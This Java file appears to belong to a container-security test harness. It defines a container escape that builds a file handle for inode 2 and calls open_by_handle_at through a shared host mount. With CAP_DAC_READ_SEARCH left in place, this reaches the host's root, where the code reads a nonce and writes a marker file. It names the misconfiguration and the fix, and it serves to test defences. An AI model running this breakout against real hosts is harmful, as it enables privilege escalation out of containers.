package nutshell.escapes;

import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.file.Path;
import java.util.List;

/** Opens the root of a file system by its handle, which is easily guessed, from a mount of some directory of it; see open_by_handle_at(2). */
record OpenByHandle() implements Escape {

    @Override
    public String word() {
        return "open-by-handle";
    }

    @Override
    public String mistake() {
        return "CAP_DAC_READ_SEARCH was left, and a directory of the host is shared";
    }

    @Override
    public Defence fix() {
        return Defence.DEFAULT_CAPABILITIES;
    }

    private static final int FILEID_INO32_GEN = 1;
    /** The root directory of every ext file system; its generation is 0. */
    private static final int ROOT_INODE = 2;

    @Override
    public void make(Blueprint blueprint, Stake stake) {
        blueprint.mount(new HostMount(stake.disk().volume(), "vol", false, false));
    }

    @Override
    public void prepare(Stake stake) {
        stake.disk().renew(stake.nonce());
    }

    @Override
    public Path left(Stake stake) {
        return stake.disk().left();
    }

    @Override
    public List<Attack> ways(Scene scene) {
        byte[] handle = ByteBuffer.allocate(16)
                .order(ByteOrder.nativeOrder())
                .putInt(8)
                .putInt(FILEID_INO32_GEN)
                .putInt(ROOT_INODE)
                .putInt(0)
                .array();
        return List.of(attacker -> {
            int volume = attacker.open("/vol");
            int root = attacker.note("inode 2 of this file system is its root: above what is mounted")
                    .opening(
                            "open_by_handle_at",
                            List.of(Integer.toString(volume), "{FILEID_INO32_GEN, inode 2}", "O_RDONLY"),
                            volume,
                            handle,
                            0);
            int nonce = attacker.note("only the host's root reads it").openBelow(root, "nonce");
            attacker.tell(nonce).close(nonce);
            attacker.note("a file that only the host's root could leave").createBelow(root, "was-here");
        });
    }
}
